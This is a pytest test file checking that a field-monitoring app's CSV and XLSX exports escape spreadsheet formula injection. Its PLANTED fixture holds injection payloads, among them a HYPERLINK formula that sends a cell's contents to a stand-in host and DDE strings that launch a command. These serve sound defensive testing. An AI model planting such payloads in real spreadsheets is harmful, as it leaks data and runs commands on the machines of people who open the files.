"""Spreadsheet exports show text as text, whatever a partner office typed into it."""

from __future__ import annotations

import csv
import dataclasses
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sync_offices import visit

from fieldkit.context import Context
from fieldkit.services.data import export_data
from fieldkit.services.monitoring import save_visit

#: a value per field of a visit that a spreadsheet would run as a formula if written as is
PLANTED = {
    "title": '=HYPERLINK("http://example.invalid/?"&A1,"Open")',
    "location_text": "+1+cmd|' /C calc'!A0",
    "team": "@SUM(1+1)*cmd|' /C calc'!A0",
    "institutions": "-2+3",
    "counterparts": "\t=1+2",
    "narrative": "\r=1+2",
}


@pytest.fixture
def planted(ctx: Context) -> str:
    return save_visit(ctx, dataclasses.replace(visit(), **PLANTED)).value.id or ""


def test_csv_neutralises_every_formula_start(ctx: Context, planted: str, tmp_path: Path) -> None:
    export_data(ctx, "csv", tmp_path)
    with (tmp_path / "monitoring_visit.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    (row,) = [r for r in rows if r["id"] == planted]
    for name, value in PLANTED.items():
        assert row[name] == "'" + value, name


def test_csv_keeps_harmless_text_and_numbers_as_they_are(ctx: Context, tmp_path: Path) -> None:
    plain = dataclasses.replace(
        visit(), title="Visite à Kamiti = surpeuplement", latitude=-1.25, longitude=36.8
    )
    saved = save_visit(ctx, plain).value.id
    export_data(ctx, "csv", tmp_path)
    with (tmp_path / "monitoring_visit.csv").open(encoding="utf-8-sig", newline="") as fh:
        (row,) = [r for r in csv.DictReader(fh) if r["id"] == saved]
    assert row["title"] == "Visite à Kamiti = surpeuplement"
    assert row["latitude"] == "-1.25"


def test_csv_starts_with_a_byte_order_mark_so_excel_reads_utf8(ctx: Context, tmp_path: Path) -> None:
    saved = save_visit(ctx, visit(title="زيارة سجن كاميتي 监狱探访")).value.id
    export_data(ctx, "csv", tmp_path)
    data = (tmp_path / "monitoring_visit.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbftitle,")
    assert f"{saved},".encode() in data and "زيارة سجن كاميتي 监狱探访".encode() in data


def test_xlsx_writes_text_as_string_cells_never_formulas(ctx: Context, planted: str, tmp_path: Path) -> None:
    (path,) = export_data(ctx, "xlsx", tmp_path)
    with zipfile.ZipFile(path) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in book.read(n) or b"<f " in book.read(n) for n in sheets)
    sheet = load_workbook(path, read_only=True)["monitoring_visit"]
    header, *rows = sheet.iter_rows()
    column = {cell.value: i for i, cell in enumerate(header)}
    (row,) = [r for r in rows if r[column["id"]].value == planted]
    for name, value in PLANTED.items():
        cell = row[column[name]]
        # XML reads a carriage return back as a line feed
        assert (cell.data_type, cell.value) == ("s", value.replace("\r", "\n")), name


def test_xlsx_export_survives_control_characters(ctx: Context, tmp_path: Path) -> None:
    saved = save_visit(ctx, visit(narrative="Bell\x07 and form feed\x0c here")).value.id
    (path,) = export_data(ctx, "xlsx", tmp_path)
    sheet = load_workbook(path, read_only=True)["monitoring_visit"]
    header, *rows = sheet.iter_rows()
    column = {cell.value: i for i, cell in enumerate(header)}
    (row,) = [r for r in rows if r[column["id"]].value == saved]
    assert row[column["narrative"]].value == "Bell\ufffd and form feed\ufffd here"
